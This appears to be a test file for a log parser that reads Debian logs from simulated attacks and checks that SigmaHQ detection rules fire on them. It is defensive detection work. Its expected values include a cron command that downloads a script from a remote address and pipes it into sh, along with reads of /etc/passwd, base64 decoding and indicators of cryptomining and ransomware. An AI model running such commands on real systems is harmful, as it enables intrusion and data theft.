/**
 * What programs of Debian really wrote while they were attacked (`fixtures/debian-12`, its README says how): nothing is left unread, and user,
 * address, deed and outcome have their names; the rules of SigmaHQ see the attacks.
 * @module
 */
import { readdirSync, readFileSync } from 'node:fs'
import { compileRules, linkRules, readSigma } from '@hinoban/sigma'
import { describe, expect, test } from 'vitest'
import { type LogEvent, logReader, toSigma } from './index.ts'
import { hasCorpus, untar } from './testing-corpus.ts'

const FOLDER = new URL('../fixtures/debian-12/', import.meta.url)
const receivedAt = Date.UTC(2026, 10, 22, 21, 30)
const MEANS = {
  receivedAt,
  format: 'auto',
  timeZone: 'Asia/Tokyo',
  encoding: 'auto',
  senderAddress: null,
} as const

type Read = { readonly event: LogEvent; readonly raw: string }
const readFile = (file: string): readonly Read[] => {
  const reader = logReader(MEANS)
  const bytes = readFileSync(new URL(file, FOLDER))
  const found: Read[] = []
  for (let at = 0; at < bytes.length; ) {
    const next = bytes.indexOf(0x0a, at)
    const end = next < 0 ? bytes.length : next
    const line = bytes.subarray(at, end)
    at = end + 1
    if (line.length === 0) continue
    for (const event of reader.read(line, receivedAt))
      found.push({ event, raw: line.toString('utf8') })
  }
  for (const event of reader.end()) found.push({ event, raw: '' })
  return found
}
const files = readdirSync(FOLDER).filter((name) => name !== 'README.md')

/** `format/product/category/service`, and how many lines of the file are that: none is `unparsed`. The last line of HAProxy is of `mode tcp`. */
const KINDS: Readonly<Record<string, Readonly<Record<string, number>>>> = {
  'apache-access.log': { 'web-access//webserver/': 32 },
  'apache-error.log': { 'web-error//webserver/apache': 25 },
  'audit.log': {
    'auditd/linux//auditd': 4,
    'auditd/linux/network_connection/auditd': 1,
    'auditd/linux/process_creation/auditd': 10,
  },
  'auth.log': {
    'linux-auth/linux//auth': 54,
    'linux-auth/linux//cron': 10,
    'linux-auth/linux//sshd': 88,
    'linux-auth/linux//sudo': 15,
    'syslog///syslog': 9,
    'syslog/linux//syslog': 1,
  },
  'dns.log': { 'syslog//dns/syslog': 24, 'syslog/linux//syslog': 5, 'syslog/linux/dns/syslog': 9 },
  'haproxy.log': { 'syslog///syslog': 1, 'web-access//webserver/haproxy': 33 },
  'journal.ndjson': {
    'linux-auth/linux//auth': 1,
    'linux-auth/linux//sshd': 16,
    'syslog///syslog': 2,
    'syslog/linux//syslog': 1,
  },
  'mail.log': { 'linux-auth/linux//auth': 3, 'syslog///syslog': 29 },
  'netfilter.log': { 'netfilter/linux/firewall/syslog': 7 },
  'nginx-access.log': { 'web-access//webserver/': 35 },
  'nginx-error.log': { 'web-error//webserver/nginx': 62 },
  'nginx-json.log': { 'web-access//webserver/': 35 },
  'nginx-vhost.log': { 'web-access//webserver/': 8 },
  'samba.log': { 'syslog///syslog': 37 },
  'squid-combined.log': { 'web-access/squid/proxy/squid': 14 },
  'squid.log': { 'squid/squid/proxy/squid': 14 },
  'vpn-and-bans.log': { 'syslog///syslog': 23 },
}

test('every file is there, and every line is of the moment it was written', () => {
  for (const file of files)
    for (const { event, raw } of readFile(file)) {
      const at = event.time ?? receivedAt
      expect([file, raw.slice(0, 80), at > receivedAt - 30 * 60_000 && at <= receivedAt]).toEqual([
        file,
        raw.slice(0, 80),
        true,
      ])
    }
})

test.each(files)('%s: what its lines are', (file) => {
  const kinds: Record<string, number> = {}
  for (const { event } of readFile(file)) {
    const kind = [event.format, event.product, event.category, event.service].join('/')
    kinds[kind] = (kinds[kind] ?? 0) + 1
  }
  expect(kinds).toEqual(KINDS[file])
})

/** The first event whose line holds the text; what it says in ECS names. */
const FACTS: readonly (readonly [file: string, text: string, ecs: LogEvent['ecs']])[] = [
  [
    'auth.log',
    'Failed password for invalid user admin',
    {
      'user.name': 'admin',
      'source.ip': '198.51.100.7',
      'event.action': 'ssh-login',
      'event.outcome': 'failure',
      'host.name': 'srv01',
    },
  ],
  [
    'auth.log',
    'Failed password for root from 2001',
    { 'user.name': 'root', 'source.ip': '2001:db8:bad::7', 'event.outcome': 'failure' },
  ],
  [
    'auth.log',
    'Accepted publickey',
    { 'user.name': 'hanako', 'source.ip': '198.51.100.7', 'event.outcome': 'success' },
  ],
  [
    'auth.log',
    'user NOT in sudoers',
    {
      'user.name': 'taro',
      'user.target.name': 'root',
      'event.action': 'sudo',
      'event.outcome': 'failure',
      'process.command_line': '/usr/bin/id',
    },
  ],
  [
    'auth.log',
    'name=toor',
    { 'user.target.name': 'toor', 'event.action': 'new-user', 'event.category': 'iam' },
  ],
  ['auth.log', "add 'taro' to group 'sudo'", { 'user.target.name': 'taro', 'event.action': 'add' }],
  [
    'auth.log',
    'user taro added by root to group ops',
    { 'user.target.name': 'taro', 'event.action': 'gpasswd' },
  ],
  [
    'auth.log',
    "changed user 'hanako' shell",
    { 'user.target.name': 'hanako', 'event.action': 'changed-user', 'event.category': 'iam' },
  ],
  [
    'auth.log',
    'x.sh | sh',
    {
      'user.name': 'root',
      'process.command_line': 'curl -s http://198.51.100.9/x.sh | sh',
      'event.action': 'cron-command',
    },
  ],
  [
    'nginx-access.log',
    'login.php',
    {
      'user.name': 'hanako',
      'source.ip': '198.51.100.7',
      'http.request.method': 'POST',
      'http.response.status_code': 403,
    },
  ],
  ['nginx-access.log', '"GET /v6', { 'source.ip': '2001:db8:bad::7' }],
  [
    'nginx-vhost.log',
    'GET /shop',
    { 'url.domain': 'shop.example.jp', 'url.full': 'http://shop.example.jp/shop' },
  ],
  [
    'nginx-json.log',
    'sqlmap',
    {
      'source.ip': '198.51.100.7',
      'http.response.status_code': 200,
      'user_agent.original': 'sqlmap/1.7.2#stable (https://sqlmap.org)',
    },
  ],
  ['apache-error.log', '2001:db8:bad::7', { 'source.ip': '2001:db8:bad::7', 'source.port': 36664 }],
  [
    'apache-error.log',
    'Password Mismatch',
    { 'user.name': 'taro', 'event.action': 'http-login', 'event.outcome': 'failure' },
  ],
  [
    'haproxy.log',
    '.git/config',
    {
      'source.ip': '198.51.100.7',
      'http.request.method': 'GET',
      'http.response.status_code': 404,
      'url.full': '/.git/config',
    },
  ],
  [
    'squid.log',
    'TCP_DENIED',
    {
      'source.ip': '198.51.100.7',
      'url.domain': 'files.evil.tk',
      'event.outcome': 'failure',
      'http.response.status_code': 403,
    },
  ],
  [
    'squid-combined.log',
    'files.evil.tk',
    { 'source.ip': '198.51.100.7', 'http.response.status_code': 403 },
  ],
  [
    'dns.log',
    'named[682]: queries: info: client @0x7f9cbd66d098 198.51.100.7#33229',
    { 'dns.question.name': 'pool.minexmr.com', 'source.ip': '198.51.100.7' },
  ],
  [
    'dns.log',
    'zone transfer',
    {
      'event.action': 'dns-zone-transfer',
      'event.outcome': 'failure',
      'source.ip': '198.51.100.7',
    },
  ],
  [
    'dns.log',
    'query[AAAA]',
    { 'dns.question.name': 'api.telegram.org', 'source.ip': '198.51.100.7' },
  ],
  [
    'dns.log',
    'A IN REFUSED',
    { 'dns.question.name': 'pool.minexmr.com', 'event.outcome': 'failure' },
  ],
  [
    'mail.log',
    'Relay access denied',
    {
      'source.ip': '198.51.100.7',
      'email.from.address': 'a@evil.example',
      'event.action': 'smtp-reject',
      'event.outcome': 'failure',
    },
  ],
  [
    'mail.log',
    'imap-login: Login',
    {
      'user.name': 'hanako',
      'source.ip': '198.51.100.7',
      'event.action': 'imap-login',
      'event.outcome': 'success',
    },
  ],
  ['mail.log', 'imap-login: Disconnected', { 'user.name': 'hanako', 'event.outcome': 'failure' }],
  [
    'mail.log',
    'ruser=nobody2',
    {
      'source.ip': '198.51.100.7',
      'event.action': 'pam-authentication',
      'event.outcome': 'failure',
    },
  ],
  [
    'vpn-and-bans.log',
    'Peer Connection Initiated',
    {
      'user.name': 'hanako',
      'source.ip': '198.51.100.7',
      'event.action': 'vpn-login',
      'event.outcome': 'success',
    },
  ],
  [
    'vpn-and-bans.log',
    'TLS Auth Error',
    { 'source.ip': '198.51.100.7', 'event.action': 'vpn-login', 'event.outcome': 'failure' },
  ],
  [
    'vpn-and-bans.log',
    '] Ban ',
    { 'source.ip': '198.51.100.7', 'rule.name': 'sshd', 'event.action': 'ban' },
  ],
  [
    'samba.log',
    'renameat',
    {
      'user.name': 'hanako',
      'file.path': '/srv/share/請求書.txt.locked',
      'event.action': 'renameat',
      'event.outcome': 'success',
    },
  ],
  [
    'samba.log',
    'NO_SUCH_USER',
    {
      'user.name': 'nobody2',
      'user.domain': 'EXAMPLE',
      'event.action': 'smb-login',
      'event.outcome': 'failure',
    },
  ],
  [
    'netfilter.log',
    'DROP-TELNET',
    { 'source.ip': '198.51.100.7', 'destination.port': 23, 'event.outcome': 'failure' },
  ],
  [
    'journal.ndjson',
    'Failed password for root',
    { 'user.name': 'root', 'source.ip': '198.51.100.7', 'event.outcome': 'failure' },
  ],
]
test.each(FACTS)('%s: %s', (file, text, ecs) => {
  const found = readFile(file).find(({ raw }) => raw.includes(text))
  expect(found?.event.ecs).toMatchObject(ecs)
})

test('auditd: each program that ran, with the words it was given', () => {
  const ran = readFile('audit.log').flatMap(({ event }) =>
    event.category === 'process_creation' ? [event.ecs['process.command_line']] : [],
  )
  expect(ran).toEqual(
    expect.arrayContaining([
      'whoami',
      'cat /etc/passwd',
      'base64 -d',
      'chmod 777 /srv/aw/悪い ファイル',
    ]),
  )
})

/** Rules of SigmaHQ that the attack must set off, by file. */
const HITS: Readonly<Record<string, readonly string[]>> = {
  'auth.log': [
    'Sudo Privilege Escalation CVE-2019-14287 - Builtin',
    'Privileged User Has Been Created',
    'Modifying Crontab',
    'Linux Command History Tampering',
  ],
  'squid.log': ['Download From Suspicious TLD - Blacklist'],
  'squid-combined.log': [
    'Download From Suspicious TLD - Blacklist',
    'Windows PowerShell User Agent',
  ],
  'dns.log': ['Telegram Bot API Request'],
  'audit.log': [
    'System Owner or User Discovery - Linux',
    'Remove Immutable File Attribute - Auditd',
    'Decode Base64 Encoded Text',
  ],
}
const WEB = [
  'SQL Injection Strings In URI',
  'Log4j RCE CVE-2021-44228 Generic',
  'Path Traversal Exploitation Attempts',
  'Cross Site Scripting Strings',
  'Windows Webshell Strings',
  'Source Code Enumeration Detection by Keyword',
  'Citrix Netscaler Attack CVE-2019-19781',
]
const AGENTS = [
  'Suspicious User-Agents Related To Recon Tools',
  'Log4j RCE CVE-2021-44228 in Fields',
]

describe.skipIf(!hasCorpus)('rules of SigmaHQ on the attacks', () => {
  const program = compileRules(
    linkRules(
      readSigma(
        [...untar('sigma-rules/sigma-rules.tar.gz', /(^|\/)rules[^/]*\/.*\.yml$/)]
          .filter(({ file }) => !file.includes('/windows/'))
          .map(({ file, bytes }) => ({ file, text: bytes.toString('utf8') })),
      ),
    ).rules,
  )
  test.each([
    ...Object.entries(HITS),
    ['haproxy.log', WEB] as const,
    ...['nginx-access.log', 'nginx-json.log', 'apache-access.log'].map(
      (file) => [file, [...WEB, ...AGENTS]] as const,
    ),
  ])('%s', (file, wanted) => {
    const hits = new Set<string>()
    for (const { event, raw } of readFile(file))
      for (const { about } of program.match(toSigma(event, raw))) hits.add(about.title ?? '')
    expect([...hits]).toEqual(expect.arrayContaining([...wanted]))
  })
})
